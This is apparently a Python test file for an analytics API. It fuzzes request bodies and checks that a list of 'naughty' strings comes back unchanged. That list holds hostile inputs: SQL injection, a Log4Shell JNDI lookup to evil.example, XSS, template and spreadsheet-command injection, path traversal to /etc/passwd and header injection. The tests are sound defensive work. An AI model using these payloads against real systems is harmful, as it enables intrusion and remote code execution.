"""Whatever a body holds, a function that writes it answers, and never with an error of ours."""

import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine

from contract.analytics import Disposition, Speaker, ToolOutcome
from tests.builders import CALL_ID
from tests.services import Service

CALL = f"/v1/analytics/calls/{CALL_ID}"

values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=10**18, max_value=10**30)
    | st.floats()
    | st.text(max_size=40),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=15,
)
moments = st.one_of(
    st.datetimes(timezones=st.timezones()).map(lambda moment: moment.isoformat()),
    st.sampled_from(["0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00", "2026-02-30T00:00:00Z"]),
    values,
)
names = st.text(max_size=70) | values
turns = st.fixed_dictionaries(
    {"speaker": st.sampled_from([*Speaker, "nobody"]), "text": st.text(max_size=300)},
    optional={
        "started_at": moments,
        "ended_at": moments,
        "source": names,
        "latencies": st.dictionaries(st.text(max_size=10), st.floats() | values, max_size=3),
    },
)
tool_calls = st.fixed_dictionaries(
    {"name": names, "outcome": st.sampled_from(list(ToolOutcome)), "duration_ms": st.integers()},
    optional={
        "arguments": st.dictionaries(st.text(max_size=10), values, max_size=4),
        "error": names,
        "started_at": moments,
    },
)
calls = st.fixed_dictionaries(
    {"started_at": moments, "agent_version": names},
    optional={
        "ended_at": moments,
        "disposition": st.sampled_from(list(Disposition)) | values,
        "verification_level": st.integers() | values,
        "claim_numbers": st.lists(st.text(max_size=12), max_size=3),
    },
)
bodies = (
    st.tuples(st.just(f"{CALL}/turns/1"), turns)
    | st.tuples(st.just(f"{CALL}/tool-calls/1"), tool_calls)
    | st.tuples(st.just(CALL), calls)
)


@pytest.fixture
def analytics(database: Engine) -> Service:
    return Service("analytics")


@settings(
    max_examples=400,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(request=bodies)
def test_no_body_whatever_breaks_the_database(analytics: Service, request):
    path, body = request

    answer = analytics.put(path, json.dumps(body).encode())

    assert answer.status_code in (200, 400, 422), answer.text


def test_every_naughty_string_that_is_taken_comes_back_as_it_was(analytics: Service):
    naughty = [
        "undefined",
        "'; DROP TABLE turns; --",
        "1' OR '1'='1",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "../../../../etc/passwd",
        "\u202etest\u202c",
        "Z̷̢a̶l̵g̴o̷",
        "👩‍👩‍👧‍👦",
        "\u200b\ufeff",
        "%s%n%x",
        "\\",
        "\x1b[31m",
        "\r\nSet-Cookie: a=b",
        "ﷺ" * 500,
    ]
    analytics.put(CALL, {"started_at": "2026-11-23T09:00:00Z", "agent_version": "1"})

    for n, text in enumerate(naughty):
        body = {"speaker": "caller", "text": text, "started_at": "2026-11-23T09:00:00Z"}
        assert analytics.put(f"{CALL}/turns/{n}", body).status_code == 200

    turns_back = analytics.get(CALL).json["turns"]
    assert [turn["text"] for turn in turns_back] == naughty
